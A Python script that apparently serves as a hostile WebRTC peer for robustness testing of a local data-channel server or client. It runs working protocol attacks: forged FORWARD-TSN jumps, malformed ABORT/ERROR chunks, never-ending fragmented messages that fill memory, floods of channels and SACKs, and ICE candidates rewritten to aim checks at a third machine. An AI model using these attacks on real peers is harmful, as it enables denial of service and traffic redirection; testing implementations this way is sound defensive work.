"""A hostile WebRTC peer: opens a link as any stranger does, then does one thing that no honest peer does.

    hostile_peer.py HOST:PORT ATTACK     answers the offer of the server there
    hostile_peer.py listen ATTACK        makes an offer to the client that calls it

Prints "listening on HOST:PORT", "open", and at the end "closed" if the other end has closed the link, or "still open".
It sends to this machine only, and never more than the attack needs.
"""

import asyncio
import json
import socket
import struct
import sys
import time

import msgpack
from aiortc import InvalidStateError, RTCPeerConnection, RTCSessionDescription
from aiortc.rtcsctptransport import Chunk, DataChunk, ForwardTsnChunk, tsn_plus_one

LIMIT = 20.0  # s, for each wait
BYTES = 64 << 20  # of an attack that fills the memory
LANES = ("control", "frames", "answers")
FIRST, MIDDLE, WHOLE, UNORDERED = 2, 0, 3, 4  # flags of a piece of data


class RawChunk(Chunk):
    """A chunk of any type with any body."""

    def __init__(self, type_, body):
        self.type, self.flags, self.body = type_, 0, body


def say(text):
    print(text, flush=True)


def piece(sctp, flags, data, stream=1, seq=0):
    chunk = DataChunk(flags)
    chunk.tsn, chunk.stream_id, chunk.stream_seq, chunk.protocol, chunk.user_data = sctp._local_tsn, stream, seq, 53, data
    sctp._local_tsn = tsn_plus_one(sctp._local_tsn)
    return chunk


async def endless(sctp, closed, gap=False, size=1100):
    """One message whose last piece never comes."""
    if gap:
        sctp._local_tsn = tsn_plus_one(sctp._local_tsn)
    flags, sent = FIRST | UNORDERED, 0
    while sent < BYTES and not closed.is_set():
        await sctp._send_chunk(piece(sctp, flags, bytes(size)))
        flags, sent = MIDDLE | UNORDERED, sent + size
        if sent % (16 * size) == 0:
            await asyncio.sleep(0.001)  # a lost packet would end the message
        if sent % (2048 * size) == 0:
            CONTROL[0].send(msgpack.packb({"type": "ping", "id": sent}))  # a silent peer would be gone
    say(f"sent {sent} bytes")


async def forward(sctp, closed):
    """Skips two thousand million packets, five times."""
    for _ in range(5):
        chunk = ForwardTsnChunk()
        chunk.cumulative_tsn = (sctp._local_tsn + (1 << 31) - 100) & 0xFFFFFFFF
        await sctp._send_chunk(chunk)


async def broken(sctp, closed, type_):
    """A cause that is longer than its chunk."""
    await sctp._send_chunk(RawChunk(type_, struct.pack("!HH", 12, 999)))


async def channels(sctp, closed, connection):
    """Five hundred channels, and messages on each."""
    for number in range(500):
        if closed.is_set():
            break
        channel = connection.createDataChannel(f"other {number}")
        try:
            for _ in range(20):
                channel.send(bytes(1000))
        except Exception:
            pass  # not open yet
        await asyncio.sleep(0.002)


async def sacks(sctp, closed):
    """Acknowledges the same packets thousands of times in one packet, for a second."""
    until = time.monotonic() + 1
    while time.monotonic() < until and not closed.is_set():
        blocks = struct.pack("!HH", 1, 1000) * 300
        await sctp._send_chunk(RawChunk(3, struct.pack("!LLHH", sctp._last_received_tsn, 1 << 20, 300, 0) + blocks))
        await asyncio.sleep(0)


ATTACKS = {
    "none": lambda sctp, closed, pc: asyncio.sleep(0),
    "forward-tsn": lambda sctp, closed, pc: forward(sctp, closed),
    "abort": lambda sctp, closed, pc: broken(sctp, closed, 6),
    "error": lambda sctp, closed, pc: broken(sctp, closed, 9),
    "endless": lambda sctp, closed, pc: endless(sctp, closed),
    "gap": lambda sctp, closed, pc: endless(sctp, closed, gap=True),
    "pieces": lambda sctp, closed, pc: endless(sctp, closed, size=64),
    "channels": channels,
    "sacks": lambda sctp, closed, pc: sacks(sctp, closed),
}


async def attack(connection, name, opened, closed):
    await asyncio.wait_for(opened.wait(), LIMIT)
    say("open")
    try:
        await ATTACKS[name](connection.sctp, closed, connection)
    except (ConnectionError, InvalidStateError):
        pass  # closed
    say("done")
    try:
        # What is only dropped closes nothing.
        await asyncio.wait_for(closed.wait(), 2 if name in ("none", "sacks") else LIMIT)
        say("closed")
    except asyncio.TimeoutError:
        say("still open")


HELLO = {"type": "hello", "protocol": 1, "name": "hostile", "version": "1"}
STREAM = {"width": 32, "height": 32, "pixel": "gray8", "window": 1, "delivery": "reliable", "encoding": "raw"}
CONTROL = []  # the lane


def watch(channel, hello, lanes, opened, closed):
    def open_():
        if channel.label == "control":
            CONTROL.append(channel)
            channel.send(msgpack.packb(hello))
        lanes.add(channel.label)
        if lanes.issuperset(LANES):
            opened.set()

    channel.on("close", closed.set)
    channel.on("open", open_)
    if channel.readyState == "open":
        open_()


async def call(address, name):
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    connection, lanes, opened, closed = RTCPeerConnection(), set(), asyncio.Event(), asyncio.Event()
    connection.on("datachannel", lambda channel: watch(channel, HELLO | {"role": "sink"}, lanes, opened, closed))
    line = json.loads(await asyncio.wait_for(reader.readline(), LIMIT))
    await connection.setRemoteDescription(RTCSessionDescription(line["sdp"], "offer"))
    await connection.setLocalDescription(await connection.createAnswer())
    answer = connection.localDescription.sdp
    third = None
    if name == "candidates":
        third, answer = with_third_machine(answer)
    writer.write(json.dumps({"type": "answer", "sdp": answer}).encode() + b"\n")
    if third:
        say(f"checks {await count(third)}")
        return
    ended = asyncio.create_task(until_end(reader, closed))
    await attack(connection, name, opened, closed)
    ended.cancel()
    # The other end is gone, so nothing is sent to it.


async def until_end(reader, closed):
    while await reader.readline():
        pass
    closed.set()


async def listen(name):
    done = asyncio.Event()

    async def serve(reader, writer):
        await asyncio.wait_for(reader.readline(), LIMIT)  # the hello
        connection, lanes, opened, closed = RTCPeerConnection(), set(), asyncio.Event(), asyncio.Event()
        source = HELLO | {"role": "source", "stream": STREAM}
        for label in LANES:
            watch(connection.createDataChannel(label), source, lanes, opened, closed)
        await connection.setLocalDescription(await connection.createOffer())
        offer = connection.localDescription.sdp.replace("a=setup:actpass", "a=setup:active")
        third = None
        if name == "candidates":
            third, offer = with_third_machine(offer)
        writer.write(json.dumps({"type": "offer", "sdp": offer}).encode() + b"\n")
        while (line := json.loads(await asyncio.wait_for(reader.readline(), LIMIT))).get("type") != "answer":
            pass
        if third:
            say(f"checks {await count(third)}")
            return done.set()
        await connection.setRemoteDescription(RTCSessionDescription(line["sdp"], "answer"))
        ended = asyncio.create_task(until_end(reader, closed))
        await attack(connection, name, opened, closed)
        ended.cancel()
        done.set()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    host, port = server.sockets[0].getsockname()
    say(f"listening on {host}:{port}")
    await done.wait()


def with_third_machine(sdp):
    """The description with the addresses of another machine in place of ours: ports of one that only listens."""
    third = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(16)]
    for listener in third:
        listener.bind(("127.9.9.9", 0))
        listener.setblocking(False)
    ports = [listener.getsockname()[1] for listener in third]
    lines = [line for line in sdp.split("\r\n") if not line.startswith(("a=candidate:", "a=end-of-candidates"))]
    named = [f"a=candidate:{n} 1 udp {2130706431 - n} 127.9.9.9 {port} typ host" for n, port in enumerate(ports)]
    at = next(at for at, line in enumerate(lines) if line.startswith("a=ice-ufrag"))
    return third, "\r\n".join(lines[:at] + named + lines[at:])


async def count(third):
    checks, until = 0, time.monotonic() + 6
    while time.monotonic() < until:
        for listener in third:
            try:
                listener.recv(2048)
                checks += 1
            except BlockingIOError:
                pass
        await asyncio.sleep(0.001)
    return checks


async def main():
    where, name = sys.argv[1:]
    await (listen(name) if where == "listen" else call(where, name))


asyncio.run(main())
